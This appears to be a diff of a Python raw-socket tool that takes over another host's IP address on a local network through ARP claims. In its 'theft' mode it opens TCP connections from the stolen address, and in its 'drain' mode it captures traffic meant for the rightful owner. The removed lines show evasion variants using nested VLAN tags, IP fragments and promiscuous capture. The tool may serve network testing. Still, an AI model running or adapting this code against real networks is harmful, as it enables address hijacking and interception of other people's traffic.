@@ -2,7 +2,6 @@
 
 theft: claims an address by ARP, opens a TCP connection from it, announces the owner's Ethernet address in one ARP packet, sends a
 request, and claims the address again. Prints a JSON line for each attempt, with what was answered.
-tagged, fragments: the same with frames that have nested priority tags, or as IP fragments; also reads frames to the silent owner.
 drain: claims the address again and again for some milliseconds, and prints what arrives for it.
 """
 import json, random, socket, struct, sys, time
@@ -12,10 +11,6 @@ mode, interface, source, server, own_ip, claimed, owner_mac, port, path, attempt
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
 wire.bind((interface, 0))
 own_mac = wire.getsockname()[4]
-is_hidden = mode in ("tagged", "fragments")
-if is_hidden:
-    # SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC: a switch floods frames to an address that no port has.
-    wire.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(interface), 1, 0, b""))
 ip = socket.inet_aton
 mac = lambda text: bytes.fromhex(text.replace(":", ""))
 
@@ -37,15 +32,10 @@ def tcp(sport, seq, ack, flags, data=b""):
     head = struct.pack("!HHIIBBHHH", sport, int(port), seq, ack, 0x50, flags, 64240, 0, 0)
     pseudo = ip(source) + ip(server) + struct.pack("!BBH", 0, 6, len(head) + len(data))
     head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
-    payload, number = head + data, random.randrange(65536)
-    pieces = [(0, payload[:8]), (8, payload[8:])] if mode == "fragments" else [(0, payload)]
-    for at, piece in pieces:
-        more = 0x2000 if at + len(piece) < len(payload) else 0
-        packet = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(piece), number, more | at // 8, 64, 6, 0)
-        packet += ip(source) + ip(server)
-        packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
-        tags = b"\x81\x00\0\0" * 2 if mode == "tagged" else b""
-        wire.send(server_mac + own_mac + tags + b"\x08\x00" + packet + piece)
+    packet = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(head) + len(data), random.randrange(65536), 0x4000, 64, 6, 0)
+    packet += ip(source) + ip(server)
+    packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
+    wire.send(server_mac + own_mac + b"\x08\x00" + packet + head + data)
 
 
 def segments(until):
@@ -59,7 +49,7 @@ def segments(until):
             frame = wire.recv(65536)
         except TimeoutError:
             return
-        if (frame[:6] != own_mac and not is_hidden) or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != ip(server):
+        if frame[:6] != own_mac or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != ip(server):
             continue
         start = 14 + (frame[14] & 15) * 4
         total = 14 + struct.unpack("!H", frame[16:18])[0]
@@ -131,7 +121,7 @@ for _ in range(50):
     break
 assert server_mac != b"\xff" * 6, "the server does not answer ARP"
 
-if mode != "drain":
+if mode == "theft":
     # Each attempt is a connection of its own: with the ports of an earlier one, it would be the same.
     first = random.randrange(20000, 50000)
     for number in range(int(attempts)):
